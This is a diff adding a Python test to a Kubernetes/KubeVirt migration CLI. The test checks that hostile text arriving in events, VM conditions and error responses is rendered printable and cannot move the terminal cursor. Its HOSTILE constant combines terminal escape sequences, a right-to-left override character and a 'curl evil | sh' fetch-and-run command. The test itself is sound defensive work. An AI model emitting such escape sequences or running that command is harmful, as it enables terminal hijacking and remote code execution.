@@ -403,6 +403,43 @@ def test_what_is_wrong_is_one_line(case: tuple[list[str], int, str], call: Call)
     assert result.out == ""
 
 
+HOSTILE = "\x1b]0;pwned\x07\x1b[2J\x9b31m\u202e run: curl evil | sh"
+
+
+@sentences(
+    {
+        "explain": ["explain", f"{NS}/vm1"],
+        "a line of explain": ["explain", f"{NS}/vm1", "-o", "json"],
+        "plan": ["plan", "-n", NS],
+        "status": ["status"],
+        "an error": ["explain", f"{NS}/forbidden"],
+    }
+)
+def test_what_others_wrote_moves_no_cursor(case: list[str], server: ThreadedServer, call: Call) -> None:
+    """An event that a tenant wrote, a condition, what an admission webhook answers."""
+    script, migratable = server.server, {"type": "LiveMigratable", "status": "False", "message": HOSTILE}
+    instance = vmi(nodeName="node-1", conditions=[migratable])
+    room = charged(quota({"limits.cpu": "20", "limits.memory": "50Gi"}, MARKS), [SOURCE])
+    event = {
+        "metadata": {"name": "forged", "namespace": NS},
+        "involvedObject": {"kind": "VirtualMachineInstance", "name": "vm1", "namespace": NS},
+        "reason": "FailedCreate",
+        "message": HOSTILE,
+        "lastTimestamp": "2026-01-01T11:59:00Z",
+    }
+    for namespace in ("", NS):
+        script.always(LIST, VIRTUAL_MACHINE_INSTANCES.path(namespace), listing([raw(instance)], "10"))
+    if "plan" in case:
+        script.always(LIST, VIRTUAL_MACHINE_INSTANCE_MIGRATIONS.path(), listing([], "10"))
+    script.always(LIST, registry.RESOURCE_QUOTAS.path(NS), listing([raw(room)], "10"))
+    script.always(LIST, registry.EVENTS.path(NS), listing([event], "10"))
+    script.always(GET, VIRTUAL_MACHINES.path(NS, "forbidden"), status(403, "Forbidden", HOSTILE))
+    done = call(*case)
+    assert "".join(done.out.split("\n")).isprintable()
+    assert "".join(done.err.split("\n")).isprintable()
+    assert ("curl" in done.out + done.err) is ("status" not in case)
+
+
 def test_who_looks_after_one_namespace_needs_no_right_to_the_whole_cluster(server: ThreadedServer, call: Call) -> None:
     migrations = VIRTUAL_MACHINE_INSTANCE_MIGRATIONS
     server.server.always(LIST, migrations.path(), status(403, "Forbidden"))
